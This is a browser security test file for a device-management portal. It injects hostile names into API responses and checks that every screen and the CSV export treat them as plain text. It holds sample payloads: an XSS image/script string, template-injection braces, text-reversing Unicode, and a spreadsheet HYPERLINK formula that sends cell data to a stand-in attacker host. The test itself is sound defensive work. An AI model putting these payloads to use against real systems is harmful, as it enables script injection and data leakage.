// Names that are not names (security.md, in the browser 8): markup, script, formulas, characters that turn a sentence round,
// ten thousand letters. They come from phones and directories, so anybody may have chosen them; every place that shows one
// is visited.

import { readFile } from 'node:fs/promises';
import { expect, test } from './attack.mjs';
import { sidewaysOverflow } from './support/look.mjs';
import { ANDROID } from './sample.mjs';

const API = /^\/api\/v1\.0\/(branding|me)/;

/** Everything in an answer that a person may have named. */
const NAMED = new Set(['deviceName', 'managedDeviceName', 'model', 'manufacturer', 'serialNumber', 'deviceCategoryDisplayName',
  'displayName', 'userPrincipalName', 'osVersion', 'contactITName', 'onlineSupportSiteName', 'contactITNotes']);

function renamed(value, name) {
  if (Array.isArray(value)) return value.map((entry) => renamed(entry, name));
  if (value === null || typeof value !== 'object') return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, entry]) => [key, NAMED.has(key) && typeof entry === 'string' ? name : renamed(entry, name)]),
  );
}

/** From now on the API calls everything and everybody `name`. */
function callEverything(stage, name) {
  stage.api.on(API, async (exchange) => {
    if (exchange.url.pathname.endsWith('/events')) return exchange.pass();
    const answer = await exchange.honest();
    const isJson = /json/.test(answer.headers['content-type'] ?? '') && answer.status < 300;
    return exchange.answer(isJson ? { ...answer, body: JSON.stringify(renamed(JSON.parse(answer.body), name)) } : answer);
  });
}

const PLANTED = '<img src=x onerror="window.planted=1;document.title=\'planted\'"></title></script><script>window.planted=1</script><b>phone</b>';
const TURNED = '\u202Ephone\u2066\u2069\u2069\u202D\u200F 👩‍👩‍👧‍👦🏴‍☠️ Z\u0351\u036B\u0343a\u0348\u034Dl\u0347go';
const COMPUTED = '=HYPERLINK("http://evil.example.test/?"&A1,"open me")';
const BRACES = '{{constructor.constructor("planted=1")()}} ${window.planted=1} %s %n \u0001{0}';
const LONG = 'W'.repeat(10_000);

/** Characters that turn what stands beside them; isolated text is none of their business (UAX #9). */
const TURNING = /[\u061C\u200E\u200F\u202A-\u202E]/;

/** Nothing of a name has become more than text. */
async function isHarmless(page, where) {
  const found = await page.evaluate((turning) => {
    const suspicious = 'img, script:not([src]):not([type]), iframe, object, embed, b, base, meta[http-equiv=refresh], [onerror], [onload], [onclick], [srcdoc]';
    const inPage = [...document.querySelectorAll(`body :is(${suspicious})`)].map((element) => element.outerHTML.slice(0, 200));
    const links = [...document.querySelectorAll('a[href]')].map((link) => link.getAttribute('href'));
    return {
      planted: globalThis.planted,
      inPage,
      links: links.filter((link) => !/^(\/(?!\/)|#|https?:\/\/localhost\/|mailto:|tel:)/.test(link)),
      turning: [...document.querySelectorAll('title, body, body *')].filter((element) => [...element.childNodes, ...element.attributes].some((node) => node.nodeType !== Node.ELEMENT_NODE && new RegExp(turning).test(node.nodeValue))).map((element) => element.outerHTML.slice(0, 200)),
      unbalanced: [...document.querySelectorAll('body *')].filter((element) => element.children.length === 0)
        .map((element) => element.textContent).filter((text) => (text.match(/\u2068/g) ?? []).length !== (text.match(/\u2069/g) ?? []).length),
    };
  }, TURNING.source);
  expect(found, where).toEqual({ planted: undefined, inPage: [], links: [], turning: [], unbalanced: [] });
  const before = page.viewportSize();
  await page.setViewportSize({ width: 320, height: 720 });
  expect(await sidewaysOverflow(page), `sideways scrolling: ${where}`).toBeLessThanOrEqual(0);
  await page.setViewportSize(before);
}

for (const [what, name] of [
  // One name does it all: a formula has to stand at the beginning, the others do their harm anywhere.
  ['a formula, markup and script, the braces of templates, characters that turn the text round, and emoji', [COMPUTED, PLANTED, BRACES, TURNED].join(' ')],
  ['ten thousand letters', LONG],
]) {
  test(`everything is called ${what}: text on every screen, on paper and in the file`, async ({ page, portal, stage }) => {
    callEverything(stage, name);
    await portal.enter('aiko', '/devices');
    await expect(portal.device(ANDROID).first()).toBeVisible();
    await isHarmless(page, 'list');
    await portal.openDevice(ANDROID);
    await isHarmless(page, 'details');
    await portal.explain();
    await isHarmless(page, 'explanation');
    await portal.leaveForSignIn();
    await portal.provider.fill('aiko');
    await portal.isAt(`/devices/${ANDROID}/reset-passcode`);
    await expect(portal.lastButton).toBeVisible();
    await isHarmless(page, 'last question');
    await portal.lastButton.click();
    await portal.isDone();
    await isHarmless(page, 'result');
    await page.emulateMedia({ media: 'print' });
    await isHarmless(page, 'paper');
    await page.emulateMedia({ media: null });
    for (const path of [`/devices/${ANDROID}/passcode`, '/notifications', `/devices/${ANDROID}/history`, '/help', '/history']) {
      await portal.open(path);
      await portal.isAt(path);
      await isHarmless(page, path);
    }
    const download = page.waitForEvent('download');
    await portal.button('history_page.download').click();
    const csv = await readFile(await (await download).path(), 'utf8');
    // A cell that a spreadsheet would compute begins with an apostrophe.
    expect(csv).not.toMatch(/(^|,)"\s*[=+\-@]/m);
    expect(csv).not.toMatch(TURNING);
    expect(csv).toContain(name.startsWith(COMPUTED) ? `"'=HYPERLINK(""http` : '"');
    await portal.signOut();
    await isHarmless(page, 'signed out');
  });
}
